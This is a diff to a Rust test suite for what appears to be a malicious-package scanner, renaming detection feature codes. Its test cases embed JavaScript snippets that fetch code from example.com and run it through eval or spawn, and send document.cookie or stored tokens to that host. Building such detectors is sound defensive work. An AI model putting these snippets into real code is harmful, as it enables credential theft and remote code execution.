@@ -65,7 +65,7 @@ fn runs(package: &Package, feature: Feature) {
 #[case::to_string("const o = { toString() { return cp.exec('id') } }; `${o}`")]
 #[case::value_of("const o = { valueOf() { return cp.exec('id') } }; o + 1")]
 fn copies_and_wraps(#[case] call: &str) {
-    has("index.js", &format!("const cp = require('node:child_process'); {call}"), Feature::P2);
+    has("index.js", &format!("const cp = require('node:child_process'); {call}"), Feature::CallProcess);
 }
 
 #[rstest]
@@ -89,7 +89,7 @@ fn copies_and_wraps(#[case] call: &str) {
 #[case::bun_imported("const { $ } = require('bun'); $`id`")]
 #[case::deno("new Deno.Command('id').outputSync()")]
 fn ways_to_a_process(#[case] source: &str) {
-    has("index.js", source, Feature::P2);
+    has("index.js", source, Feature::CallProcess);
 }
 
 /// `code` is a text that runs `id`.
@@ -130,7 +130,7 @@ fn ways_to_code(#[case] call: &str) {
     let source = format!("const code = \"require('child_process').exec('id')\"\n;{call}");
     let found = steps("index.js", &source);
     let has = |feature| found.iter().any(|step| step.feature == feature);
-    assert!(has(Feature::P4) && has(Feature::P2), "{source}\n{:?}", codes(&found));
+    assert!(has(Feature::EvaluateCode) && has(Feature::CallProcess), "{source}\n{:?}", codes(&found));
 }
 
 /// The package's own files as code.
@@ -162,7 +162,7 @@ fn files_of_the_package_as_code(#[case] source: &str) {
         &package(cerebro::package::Ecosystem::Npm, &files, vec![entry(Phase::Install, "hook", 0)]),
         &Reading::default(),
     );
-    let feature = if source.contains("b.js") { Feature::R2 } else { Feature::P2 };
+    let feature = if source.contains("b.js") { Feature::CallSystem } else { Feature::CallProcess };
     let steps = found.sequence.steps;
     let found = steps.iter().any(|step| step.feature == feature && step.phase == Phase::Install);
     assert!(found, "{source}\n{:?}", codes(&steps));
@@ -171,27 +171,30 @@ fn files_of_the_package_as_code(#[case] source: &str) {
 #[rstest]
 #[case::answer_in_an_error(
     "try { await axios.get('https://example.com') } catch (e) { eval(e.response.data) }",
-    Feature::X12
+    Feature::RunDownloaded
 )]
 #[case::answer_as_code(
     "const axios = require('axios'); try { axios.get('https://example.com') } catch (e) { new Function('require', e.response.data)(require) }",
-    Feature::X12
+    Feature::RunDownloaded
 )]
 #[case::written_then_started(
     "const fs = require('fs'), cp = require('child_process'); fetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/x', Buffer.from(b)); cp.spawn('/tmp/x') })",
-    Feature::X12
+    Feature::RunDownloaded
 )]
 #[case::written_elsewhere(
     "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path'); const at = path.join(os.tmpdir(), 'x'); function put(b) { fs.writeFileSync(at, b) } async function go() { put(await (await fetch('https://example.com/a')).text()) } go(); cp.execFile(at)",
-    Feature::X12
+    Feature::RunDownloaded
 )]
-#[case::image("new Image().src = 'https://example.com/?' + document.cookie", Feature::D2)]
-#[case::element("const i = document.createElement('img'); i.src = '//example.com/?' + document.cookie", Feature::X11)]
-#[case::storage("navigator.sendBeacon('https://example.com', localStorage.getItem('token'))", Feature::X11)]
-#[case::bun_environment("const all = Bun.env", Feature::R5)]
-#[case::deno_environment("Deno.env.toObject()", Feature::R5)]
-#[case::bun_write("await Bun.write('a.txt', 'x')", Feature::R4)]
-#[case::deno_write("Deno.writeTextFileSync('a.txt', 'x')", Feature::R4)]
+#[case::image("new Image().src = 'https://example.com/?' + document.cookie", Feature::CallNetwork)]
+#[case::element(
+    "const i = document.createElement('img'); i.src = '//example.com/?' + document.cookie",
+    Feature::SendData
+)]
+#[case::storage("navigator.sendBeacon('https://example.com', localStorage.getItem('token'))", Feature::SendData)]
+#[case::bun_environment("const all = Bun.env", Feature::ReadSecret)]
+#[case::deno_environment("Deno.env.toObject()", Feature::ReadSecret)]
+#[case::bun_write("await Bun.write('a.txt', 'x')", Feature::CallFiles)]
+#[case::deno_write("Deno.writeTextFileSync('a.txt', 'x')", Feature::CallFiles)]
 fn what_comes_and_goes(#[case] source: &str, #[case] feature: Feature) {
     runs(&npm(&[("index.js", source)]), feature);
 }
